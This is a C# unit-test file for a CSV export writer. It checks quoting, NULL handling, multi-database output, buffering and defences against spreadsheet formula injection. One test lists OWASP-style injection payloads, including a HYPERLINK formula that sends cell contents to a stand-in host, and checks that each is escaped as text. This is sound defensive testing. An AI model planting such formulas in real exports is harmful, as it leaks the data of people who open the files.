using System.Collections.Immutable;
using System.Globalization;
using System.Text;
using CsvHelper;
using JitBot.Bot.Exports;
using JitBot.Core.Statements;

namespace JitBot.Bot.Tests.Exports;

public sealed class CsvSinkTests
{
    private static readonly ImmutableArray<ResultColumn> Amounts = [new("name", IsNumber: false), new("amount", IsNumber: true)];

    [Fact]
    public async Task Names_stand_first_and_lines_end_as_RFC_4180_has_it() =>
        Assert.Equal("name,amount\r\nDana,1.50\r\n", await Written.CsvAsync(Amounts, ["Dana", "1.50"]));

    [Theory]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("say \"hello\"", "\"say \"\"hello\"\"\"")]
    [InlineData("two\r\nlines", "\"two\r\nlines\"")]
    [InlineData("two\nlines", "\"two\nlines\"")]
    [InlineData(" kept ", " kept ")]
    [InlineData("Ünï 😀 漢字 عربى", "Ünï 😀 漢字 عربى")]
    public async Task Values_are_quoted_where_they_must_be(string value, string expected) =>
        Assert.Equal($"a,b\r\n{expected},z\r\n", await Written.CsvAsync(Written.Texts("a", "b"), [value, "z"]));

    [Fact]
    public async Task Of_several_databases_the_first_column_says_which()
    {
        var (text, taken) = await Written.SeveralAsync(
            stream => new CsvSink(stream, several: true), ("crm_de", Amounts, ["Dana", "1.50"]), ("=crm", Amounts, ["Omar", "2"]), ("crm_fr", Amounts, [null, null]));

        Assert.Equal("database,name,amount\r\ncrm_de,Dana,1.50\r\n\"'=crm\",Omar,2\r\ncrm_fr,,\r\n", text);
        Assert.DoesNotContain(false, taken);
    }

    [Fact]
    public async Task Columns_other_than_those_of_the_database_before_are_not_taken()
    {
        var (text, taken) = await Written.SeveralAsync(stream => new CsvSink(stream, several: true), ("crm_de", Amounts, ["Dana", "1.50"]), ("crm_fr", Written.Texts("name"), ["Omar"]));

        Assert.Equal([true, false], taken.AsEnumerable());
        Assert.Equal("database,name,amount\r\ncrm_de,Dana,1.50\r\n", text);
    }

    [Fact]
    public async Task NULL_is_nothing_and_an_empty_string_two_quotes() =>
        Assert.Equal("a,b,c\r\n,\"\",\r\n", await Written.CsvAsync(Written.Texts("a", "b", "c"), [null, "", null]));

    [Fact]
    public async Task NULL_and_the_empty_string_are_told_apart_in_an_only_column_too() =>
        Assert.Equal("a\r\n\r\n\"\"\r\nx\r\n", await Written.CsvAsync(Written.Texts("a"), [null], [""], ["x"]));

    [Fact]
    public async Task A_row_without_columns_is_an_empty_line() => Assert.Equal("\r\n\r\n\r\n", await Written.CsvAsync([], [], []));

    // What a spreadsheet would run: OWASP's list.
    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1+1")]
    [InlineData("-1+1")]
    [InlineData("@SUM(1)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\n=1+1")]
    [InlineData("＝1+1")]
    [InlineData("＋1+1")]
    [InlineData("－1+1")]
    [InlineData("＠SUM(1)")]
    [InlineData("=HYPERLINK(\"http://x/?\"&A1,\"y\")")]
    public async Task What_a_spreadsheet_would_run_is_text(string value)
    {
        var csv = await Written.CsvAsync(Amounts, [value, value]);

        var text = $"\"'{value.Replace("\"", "\"\"", StringComparison.Ordinal)}\"";
        Assert.Equal($"name,amount\r\n{text},{text}\r\n", csv);
    }

    [Fact]
    public async Task So_is_such_a_column_name() => Assert.Equal("\"'=1+1\"\r\n", await Written.CsvAsync(Written.Texts("=1+1")));

    [Theory]
    [InlineData("-12.5")]
    [InlineData("-0")]
    [InlineData("-1.5e-05")]
    public async Task A_negative_number_is_one_in_a_number_column_alone(string value) =>
        Assert.Equal($"name,amount\r\n\"'{value}\",{value}\r\n", await Written.CsvAsync(Amounts, [value, value]));

    [Theory]
    [InlineData("-$12.50")]
    [InlineData("-Infinity")]
    [InlineData("-1+1")]
    public async Task In_a_number_column_what_is_no_plain_number_is_text(string value) =>
        Assert.Equal($"name,amount\r\n,\"'{value}\"\r\n", await Written.CsvAsync(Amounts, [null, value]));

    [Fact]
    public async Task An_independent_reader_reads_what_was_written()
    {
        string?[][] rows = [["a,\"b\"\r\nc", "", "漢字 😀"], ["; ' \\ \t", null, "\"\""], ["\u2028", "x\0y", new string('"', 100_000)], ["'quoted'", " ", "end"]];

        var read = Read(await Written.CsvAsync(Written.Texts("a", "b", "c"), rows));

        Assert.Equal([["a", "b", "c"], .. rows.Select(row => row.Select(value => value ?? ""))], read);
    }

    [Fact]
    public async Task A_wide_row_is_one_line()
    {
        var names = Enumerable.Range(0, 1600).Select(i => string.Create(CultureInfo.InvariantCulture, $"c{i}")).ToArray();

        var read = Read(await Written.CsvAsync(Written.Texts(names), [names, names]));

        Assert.Equal([names, names, names], read);
    }

    [Fact]
    public async Task However_many_rows_no_more_is_held_than_the_buffer_and_a_row()
    {
        var stream = new CountingStream();

        var (held, row) = await Written.MostHeldAsync(
            output => new CsvSink(output, several: false), stream, Written.Texts("id", "text"), Enumerable.Range(0, 100_000).Select(i => new string?[] { $"{i}", new('x', i % 997) }));

        Assert.InRange(held, 1, (64 * 1024) + row);
        Assert.InRange(stream.LargestWrite, 1, (64 * 1024) + row);
        Assert.InRange(stream.Written, 49_000_000, 60_000_000);
    }

    [Fact]
    public async Task A_value_larger_than_the_buffer_passes_through_whole()
    {
        var stream = new CountingStream();

        var (held, row) = await Written.MostHeldAsync(output => new CsvSink(output, several: false), stream, Written.Texts("text"), Enumerable.Repeat<string?[]>([new('x', 1_000_000)], 20));

        Assert.InRange(held, 0, (64 * 1024) + row);
        Assert.Equal(20_000_000 + (21 * 2) + 4, stream.Written);
    }

    private static List<string[]> Read(string csv)
    {
        var rows = new List<string[]>();
        using var reader = CsvReader.Create(Encoding.UTF8.GetBytes(csv), new() { HasHeader = false, SkipEmptyLines = false, MalformedData = CsvMalformedDataHandling.Throw });
        while (reader.Read())
        {
            rows.Add([.. Enumerable.Range(0, reader.FieldCount).Select(reader.GetString)]);
        }

        return rows;
    }
}
